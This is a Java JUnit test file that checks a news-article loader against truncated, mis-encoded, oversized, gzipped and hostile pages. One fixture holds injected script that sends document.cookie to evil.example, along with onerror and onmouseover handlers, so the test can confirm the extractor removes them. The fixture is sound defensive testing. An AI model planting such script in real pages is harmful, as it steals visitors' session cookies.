package io.storyline.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import io.storyline.model.Article;
import io.storyline.model.InputProblem;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Pages as they really come: cut off, empty of any article, mis-labelled, enormous, compressed. */
class BadPageInputTest {

    @TempDir
    Path dir;

    private static Extraction read(LoadOptions options, Path... files) {
        return new ArticleLoader(options).extract(java.util.Arrays.stream(files).map(Path::toString).toList());
    }

    private static Extraction read(Path... files) {
        return read(LoadOptions.defaults(), files);
    }

    private Path good() throws IOException {
        return Files.writeString(dir.resolve("good.html"), NewsPages.article("Ferry strike", "Coast Radio",
                NewsPages.FERRY_STORY));
    }

    @Test
    void truncatedHtmlGivesTheTextBeforeTheCutAndNoMarkup() throws IOException {
        String whole = NewsPages.article("Pier to close", "Tidewater", NewsPages.PIER_STORY);
        Path cut = Files.writeString(dir.resolve("cut.html"), whole.substring(0, whole.indexOf("Fishing crews") + 40));
        Article a = read(cut).articles().get(0).article();
        assertThat(a.text()).startsWith("The harbour board voted").contains("Fishing crews who moor there")
                .doesNotContain("<");
    }

    @Test
    void aFrontPageAndANotFoundPageAreOneProblemEachAndTheGoodPageIsKept() throws IOException {
        Path front = Files.writeString(dir.resolve("front.html"), NewsPages.frontPage());
        Path missing = Files.writeString(dir.resolve("missing.html"), "<html><head><title>Page not found - Tidewater"
                + "</title></head><body><h1>Sorry, we could not find that page</h1><p>The page you asked for may have "
                + "moved or been deleted. Try the search box, or go back to the home page.</p></body></html>");
        Extraction read = read(front, missing, good());
        assertThat(read.articles()).singleElement().satisfies(e -> assertThat(e.article().title()).isEqualTo("Ferry strike"));
        assertThat(read.problems()).extracting(InputProblem::toString).containsExactly(
                front + ": is a web page with no article text",
                missing + ": is an error page (\"Page not found - Tidewater\"), not an article");
    }

    @Test
    void aPageInAnotherEncodingThanDeclaredIsReadCorrectly() throws IOException {
        String html = "<html><head><meta charset=\"%s\"><title>Café reopens</title></head><body><article><p>The "
                + "café on the quay reopened on Friday, serving crème brûlée to the first customers in a year.</p>"
                + "</article></body></html>";
        // declared UTF-8, saved as windows-1252
        Path legacy = Files.write(dir.resolve("legacy.html"), html.formatted("utf-8").getBytes(Charset.forName("windows-1252")));
        // declared Latin-1, saved as UTF-8
        Path modern = Files.write(dir.resolve("modern.html"), html.formatted("iso-8859-1").getBytes(StandardCharsets.UTF_8));
        Extraction read = read(legacy, modern);
        assertThat(read.problems()).containsExactly(InputProblem.noted(legacy.toString(),
                "read as Windows-1252: not valid UTF-8"));
        assertThat(read.articles()).hasSize(2).allSatisfy(e -> {
            assertThat(e.article().title()).isEqualTo("Café reopens");
            assertThat(e.article().text()).contains("café").contains("crème brûlée");
        });
    }

    @Test
    void aTwoHundredMegabyteFileIsRefusedWithoutBeingRead() throws IOException {
        Path huge = dir.resolve("huge.html");
        try (RandomAccessFile file = new RandomAccessFile(huge.toFile(), "rw")) {
            file.setLength(200L * 1024 * 1024); // sparse: takes no disk space, and is never read
        }
        Extraction read = read(huge, good());
        assertThat(read.articles()).hasSize(1);
        assertThat(read.problems()).extracting(InputProblem::toString)
                .containsExactly(huge + ": is too large (200.0 MB; the limit is 64.0 MB)");
    }

    @Test
    void gzippedPagesAreReadAndAGzipBombIsCappedAndABrokenGzipIsOneProblem() throws IOException {
        Path page = Files.write(dir.resolve("pier.html.gz"),
                gzip(NewsPages.article("Pier to close", "Tidewater", NewsPages.PIER_STORY).getBytes(StandardCharsets.UTF_8)));
        Path bomb = Files.write(dir.resolve("bomb.html.gz"), gzip(new byte[5_000_000]));
        byte[] half = gzip(NewsPages.article("Ferry", "Coast", NewsPages.FERRY_STORY).getBytes(StandardCharsets.UTF_8));
        Path header = Files.write(dir.resolve("header.html.gz"), java.util.Arrays.copyOf(half, 6)); // cut in its header
        Extraction read = read(LoadOptions.defaults().withMaxFileBytes(1_000_000), page, bomb, header);
        assertThat(read.articles()).singleElement().satisfies(e -> {
            assertThat(e.article().title()).isEqualTo("Pier to close");
            assertThat(e.article().id()).isEqualTo("pier");
        });
        assertThat(read.problems()).extracting(InputProblem::toString).containsExactly(
                bomb + ": is too large (more than 976.6 KB uncompressed, the limit)".replace("976.6 KB", "1,000,000 bytes"),
                header + ": is not a complete gzip file (it ends early: the file was cut short)");
    }

    @Test
    void aGzipFileCutShortIsReadUpToItsLastWholeLineAndSaysTheRestIsLost() throws IOException {
        StringBuilder text = new StringBuilder("Ferry strike halts island crossings\n\n");
        String[] crews = {"deck", "engine", "galley", "bridge", "ticket", "harbour", "night", "relief"};
        for (int day = 1; day <= 40; day++) { // distinct lines, so the compressed half holds about half of them
            text.append("On day ").append(day).append(" of the strike the ").append(crews[day % crews.length])
                    .append(" crews of the Lindholm line met ").append(day * 37 % 101).append(" passengers at the quay.\n");
        }
        byte[] whole = gzip(text.toString().getBytes(StandardCharsets.UTF_8));
        Path broken = Files.write(dir.resolve("strike.txt.gz"), java.util.Arrays.copyOf(whole, whole.length / 2));
        Extraction read = read(broken, good());
        assertThat(read.articles()).hasSize(2);
        Article strike = read.articles().stream().map(ExtractedArticle::article)
                .filter(a -> a.id().equals("strike")).findFirst().orElseThrow();
        assertThat(strike.text()).contains("On day 1 of the strike").doesNotContain("On day 40 ")
                .endsWith("passengers at the quay."); // the last line read is whole: no half sentence
        assertThat(read.problems()).singleElement().satisfies(p -> {
            assertThat(p).isEqualTo(InputProblem.readInPart(broken.toString(), p.problem()));
            assertThat(p.problem()).startsWith("is not a complete gzip file (it ends early): read the ")
                    .endsWith(" before the break, the rest is lost");
        });
    }

    @Test
    void aGzipPageCutBeforeItsArticleSaysItWasCutShortFirst() throws IOException {
        StringBuilder head = new StringBuilder("<!doctype html><html><head><title>Pier to close</title><script>");
        for (int i = 0; i < 4000; i++) { // distinct lines, so the page's head fills most of the compressed bytes
            head.append("var t").append(i).append(" = ").append(i * 7919 % 10007).append(";\n");
        }
        String page = head + "</script></head><body><article>" + NewsPages.PIER_STORY + "</article></body></html>";
        byte[] whole = gzip(page.getBytes(StandardCharsets.UTF_8));
        Path cut = Files.write(dir.resolve("pier.html.gz"), java.util.Arrays.copyOf(whole, whole.length / 3));
        Extraction read = read(cut, good());
        assertThat(read.articles()).hasSize(1); // the good file is still read
        assertThat(read.problems()).singleElement().satisfies(p -> {
            assertThat(p.location()).isEqualTo(cut.toString());
            assertThat(p.problem()).startsWith("is not a complete gzip file (it ends early), and the part before the break ");
        });
    }

    private static byte[] gzip(byte[] bytes) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(bytes);
        }
        return out.toByteArray();
    }

    @Test
    void aHostilePageGivesOnlyText() throws IOException {
        Path hostile = Files.writeString(dir.resolve("hostile.html"), "<html><body><article>"
                + "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
                + "<p>The harbour board voted on Tuesday <img src=x onerror=alert(1)>to close the old pier.</p>"
                + "<iframe src=\"https://evil.example\"></iframe><p>Crews <b onmouseover=\"steal()\">objected</b> "
                + "loudly at the meeting.</p></article></body></html>");
        Article a = read(hostile).articles().get(0).article();
        assertThat(a.text()).doesNotContain("evil").doesNotContain("onerror").doesNotContain("alert(1)").doesNotContain("steal")
                .contains("The harbour board voted on Tuesday to close the old pier.");
        assertThat(List.of(a.text().split("\n"))).noneMatch(l -> l.matches(".*<(script|img|iframe)[ >].*"));
    }

    @Test
    void aSignInWallIsOneProblemAndAnArticleWithASignInBoxIsStillRead() throws IOException {
        Path wall = Files.writeString(dir.resolve("wall.html"), "<html><head><title>Sign in | Tidewater Times</title>"
                + "</head><body><nav><a href=\"/\">Home</a><a href=\"/news\">News</a></nav><main>"
                + "<h1>Subscribe to continue reading</h1><p>You have reached your limit of free articles this month.</p>"
                + "<form><label>Email</label><input name=email><label>Password</label><input type=password name=pw>"
                + "<button>Sign in</button></form><p>Already a subscriber? <a href=\"/login\">Log in</a>. Need help? "
                + "<a href=\"/help\">Contact us</a>.</p></main><footer>(c) Tidewater Times</footer></body></html>");
        String story = String.join("", java.util.Collections.nCopies(4, NewsPages.PIER_STORY));
        Path withBox = Files.writeString(dir.resolve("with-box.html"), NewsPages.article("Pier to close", "Tidewater", story)
                .replace("<body>", "<body><div class=\"modal\"><form><input type=password name=pw></form></div>"));
        Extraction read = read(wall, withBox);
        assertThat(read.articles()).singleElement().satisfies(e -> assertThat(e.article().title()).isEqualTo("Pier to close"));
        assertThat(read.problems()).extracting(InputProblem::toString).containsExactly(wall + ": is a sign-in or "
                + "subscription page (\"Sign in | Tidewater Times\"), not an article: it asks for a password and holds no "
                + "article text");
    }

    @Test
    void aHundredThousandNestedElementsNeitherOverflowTheStackNorLoseTheStory() throws IOException {
        String story = "<p>The harbour board voted on Tuesday to close the old pier to traffic from next spring, after "
                + "engineers found rust in most of its supporting beams.</p>";
        Path deep = Files.writeString(dir.resolve("deep.html"), "<html><head><title>Pier to close</title></head><body>"
                + "<div>".repeat(100_000) + story + "<span>".repeat(100_000) + "</span>".repeat(100_000)
                + "</div>".repeat(100_000) + "</body></html>");
        Extraction read = read(deep, good());
        assertThat(read.problems()).isEmpty();
        assertThat(read.articles()).hasSize(2);
        assertThat(read.articles()).filteredOn(e -> e.article().title().equals("Pier to close")).singleElement()
                .extracting(e -> e.article().text()).isEqualTo("The harbour board voted on Tuesday to close the old pier to traffic from next spring, after "
                        + "engineers found rust in most of its supporting beams.");
    }

    @Test
    void giantInlineScriptsAreDroppedAndTheArticleKept() throws IOException {
        String script = "<script>var state = '" + "0123456789".repeat(1_000_000) + "';</script>";
        Path page = Files.writeString(dir.resolve("app.html"), NewsPages.article("Pier to close", "Tidewater",
                NewsPages.PIER_STORY).replace("</head>", script + "</head>").replace("</body>", script + "</body>"));
        Extraction read = read(page, good());
        assertThat(read.problems()).isEmpty();
        assertThat(read.articles()).hasSize(2);
        assertThat(read.articles()).filteredOn(e -> e.article().title().equals("Pier to close")).singleElement()
                .satisfies(e -> assertThat(e.article().text()).startsWith("The harbour board voted")
                        .doesNotContain("0123456789").doesNotContain("var state"));
    }

    @Test
    void aMetaCharsetThatLiesOrIsUnknownDoesNotGarbleThePage() throws IOException {
        String html = "<html><head><meta charset=\"%s\"><title>%s</title></head><body><article><p>%s</p></article>"
                + "</body></html>";
        String japanese = "スケリー灯台の最後の灯台守が水曜日、三十一年間の勤務を終えて鍵を引き渡した。";
        // says Shift_JIS, is UTF-8
        Path utf8 = Files.write(dir.resolve("ja.html"), html.formatted("shift_jis", "灯台守が引退", japanese)
                .getBytes(StandardCharsets.UTF_8));
        // names a charset that does not exist, is windows-1252
        Path unknown = Files.write(dir.resolve("unknown.html"), html.formatted("x-no-such-charset", "Café reopens",
                "The café on the quay reopened on Friday, serving crème brûlée to the first customers in a year.")
                .getBytes(Charset.forName("windows-1252")));
        Extraction read = read(utf8, unknown);
        assertThat(read.problems()).containsExactly(InputProblem.noted(unknown.toString(),
                "read as Windows-1252: not valid UTF-8"));
        assertThat(read.articles()).extracting(e -> e.article().text()).containsExactly(japanese,
                "The café on the quay reopened on Friday, serving crème brûlée to the first customers in a year.");
    }
}
